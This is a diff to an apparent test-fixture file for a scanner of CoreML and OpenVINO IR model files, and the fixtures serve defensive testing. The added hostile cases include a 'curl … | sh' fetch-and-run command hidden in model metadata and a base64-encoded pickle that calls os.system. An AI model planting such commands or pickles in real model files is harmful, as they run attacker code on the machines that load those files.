@@ -58,6 +58,8 @@ def hostile_coreml() -> dict[str, tuple[str, bytes]]:
         "custom layer": ("unknown-operation", coreml(field(500, custom))),
         "custom layer in a branch": ("unknown-operation", coreml(branch)),
         "custom operation": ("unknown-operation", coreml(_program(field(1, "custom") + field(5, field(1, "class_name") + field(2, b""))))),
+        "command in the description": ("code-in-metadata", coreml(NETWORK + field(2, field(100, field(1, "curl http://example.com/x | sh"))))),
+        "pickle beside the description": ("code-in-metadata", coreml(NETWORK + field(2, field(100, field(100, field(1, "k") + field(2, "Y29zCnN5c3RlbQooUydlY2hvIGhpJwp0Ui4=")))))),
         "unpublished": ("opaque", coreml(field(3000, field(1, "x") + field(2, b"y")))),
         "empty": ("malformed", b""),
         "cut": ("malformed", coreml(NETWORK)[:-3]),
@@ -94,6 +96,10 @@ def sound_ir() -> dict[str, str]:
             '<layer id="2" name="r" type="ReLU" version="opset1"><data implementation="fp16" library="CPU"/></layer>'
         ),
         "empty constant": ir(const("0", "0", "0")),
+        "metadata": ir(RELU_LAYER).replace(
+            "<edges/>",
+            '<edges/><rt_info><MO_version value="2026.4"/><chat_template value="{{ messages[0].content }}"/></rt_info>',
+        ),
     }
 
 
@@ -107,6 +113,7 @@ def hostile_ir() -> dict[str, tuple[str, str]]:
         "kernel elsewhere": ("path-elsewhere", '<CustomLayer name="R" type="SimpleGPU"><Kernel entry="r"><Source filename="../../evil.cl"/></Kernel></CustomLayer>'),
         "library": ("names-library", ir('<layer id="2" name="r" type="ReLU" library="libevil.so.1"/>')),
         "library inside": ("names-library", ir('<layer id="2" name="r" type="ReLU" version="opset1"><data implementation="../op"/></layer>')),
+        "pickle in metadata": ("code-in-metadata", ir(RELU_LAYER).replace("<edges/>", '<edges/><rt_info><a value="Y29zCnN5c3RlbQooUydlY2hvIGhpJwp0Ui4="/></rt_info>')),
         "kernel": ("unknown-operation", '<CustomLayer name="R" type="SimpleGPU"><Kernel entry="r"><Source filename="r.cl"/></Kernel></CustomLayer>'),
         "extension": ("unknown-operation", ir('<layer id="2" name="r" type="Evil" version="extension"/>')),
         "beyond the weights": ("malformed", ir(const("8"))),
